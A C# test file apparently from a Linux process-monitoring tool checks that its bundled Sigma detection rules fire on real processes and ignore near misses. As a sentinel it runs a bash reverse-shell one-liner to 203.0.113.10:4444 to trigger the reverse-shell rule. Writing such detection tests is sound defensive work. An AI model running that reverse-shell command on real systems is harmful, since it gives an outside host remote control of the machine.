using System.Runtime.Versioning;
using System.Text.Json;
using Picket.Detection.Sigma;
using Picket.Spec.Ebpf;

namespace Picket.Spec.Live;

/// <summary>Every bundled rule against real processes: what it must see, and the near misses that it must leave alone.</summary>
[Collection(LiveCollection.Name)]
[SupportedOSPlatform("linux")]
public sealed class BundledRulesSpec
{
    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";

    [Fact]
    public void Every_bundled_rule_has_cases_that_fire_and_near_misses()
    {
        var rules = SigmaRuleSet.Load([Path.Combine(Corpora.Root, "config", "rules", "sigma")], new SigmaLoadOptions());
        Assert.Empty(rules.Errors);
        var cases = Cases().ToLookup(c => (c.File, c.Rule));
        foreach (var rule in rules.Rules)
        {
            var own = cases[(Path.GetFileName(rule.Alert.File!), rule.Alert.Id)].ToList();
            Assert.True(own.Count > 0, $"{rule.Alert.File} ({rule.Alert.Id}) has no case");
            Assert.True(own.Any(c => c.Misses.Count > 0), $"{rule.Alert.File} has no near miss");
        }

        var ids = rules.Rules.Select(rule => rule.Alert.Id).ToHashSet();
        Assert.All(cases, group => Assert.Contains(group.Key.Rule, ids));
    }

    [Fact]
    public async Task Bundled_rules_fire_on_real_processes_and_not_on_near_misses()
    {
        await using var node = await LiveNode.StartAsync();
        using var stage = new Stage(node);
        var played = new List<(string Rule, string File, LiveCase Case, bool Fires, int Pid)>();
        foreach (var (rule, file, fires, misses) in Cases())
        {
            played.Add((rule, file, fires, true, stage.Play(fires)));

            // Scripts name programs by their whole path.
            if (fires is { Argv0: null, Parent: null })
            {
                var byPath = fires with { Argv0 = "/usr/bin/" + fires.Name };
                played.Add((rule, file, byPath, true, stage.Play(byPath)));
            }

            played.AddRange(misses.Select(miss => (rule, file, miss, false, stage.Play(miss))));
        }

        // What was executed before the sentinel was seen before it; the drain brings what other shards still had under way.
        var sentinel = node.Run("bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1");
        await node.AlertAsync(ReverseShell, sentinel);
        Assert.True(await node.StopAsync(), "not all that was under way arrived");
        Assert.Equal(0, node.Host.Counters.Lost);
        Assert.Equal(0, node.Host.Counters.Failed);

        var alerts = node.Alerts();
        var wrong = new List<string>();
        foreach (var (rule, file, playing, fires, pid) in played)
        {
            var came = alerts.Count(alert => IsOf(alert, rule, playing, pid));
            if (came != (fires ? 1 : 0)) wrong.Add($"{file}: {(fires ? $"{came} alerts instead of one" : "fired on a near miss")}: {playing}");
        }

        Assert.True(wrong.Count == 0, $"{wrong.Count} of {played.Count}:\n{string.Join('\n', wrong)}");
    }

    private static bool IsOf(JsonElement alert, string rule, LiveCase playing, int pid)
    {
        if (alert.GetProperty("rule").GetProperty("id").GetString() != rule || !alert.TryGetProperty("process", out var process)) return false;
        if (playing.Parent is not null) return process.TryGetProperty("parent", out process) && HasPid(process, pid);
        return HasPid(process, pid);
    }

    private static bool HasPid(JsonElement process, int pid) => process.TryGetProperty("pid", out var number) && number.GetInt32() == pid;

    private static IEnumerable<(string Rule, string File, LiveCase Fires, List<LiveCase> Misses)> Cases()
    {
        using var document = JsonDocument.Parse(File.ReadAllBytes(Path.Combine(Corpora.Root, "tests", "Spec", "Rules", "live-cases.json")));
        foreach (var one in document.RootElement.EnumerateArray())
        {
            yield return (one.GetProperty("rule").GetString()!, one.GetProperty("file").GetString()!, LiveCase.Read(one.GetProperty("fires")),
                [.. one.GetProperty("misses").EnumerateArray().Select(LiveCase.Read)]);
        }
    }

    /// <summary>The folders in which cases are played.</summary>
    private sealed class Stage : IDisposable
    {
        private readonly LiveNode _node;
        private readonly string _parent;
        private readonly List<string> _folders = [];

        public Stage(LiveNode node)
        {
            _node = node;
            _parent = Path.Combine(node.Folder, "state", "parent");
            ParentProgram.Compile(_parent);
        }

        /// <summary>Runs it to its end; returns its pid, or that of the parent it asks for.</summary>
        public int Play(LiveCase playing)
        {
            var program = Place(playing, "", Probe.WriteStatic);
            if (playing.Parent is not { } parent) return Spawn.Run(program, playing.Argv, playing.Environment, playing.Directory);
            Assert.Empty(playing.Environment);
            return Spawn.Run(Place(parent, "-parents", path => File.Copy(_parent, path)), parent.Argv, ParentProgram.EnvironmentFor(program, playing.Argv), playing.Directory);
        }

        public void Dispose()
        {
            foreach (var folder in _folders) Directory.Delete(folder, recursive: true);
        }

        /// <summary>Parents lie in a folder of their own: a name may be that of a parent and of a child.</summary>
        private string Place(LiveCase playing, string suffix, Action<string> write)
        {
            var top = Path.Combine(playing.Base, Path.GetFileName(_node.Folder) + suffix);
            if (top != _node.Folder && !_folders.Contains(top))
            {
                Directory.CreateDirectory(top, (UnixFileMode)0b111_101_101);
                _folders.Add(top);
            }

            var folder = Path.Combine(top, playing.Folder);
            Directory.CreateDirectory(folder);
            var path = Path.Combine(folder, playing.Name);
            if (!File.Exists(path)) write(path);
            return path;
        }
    }
}
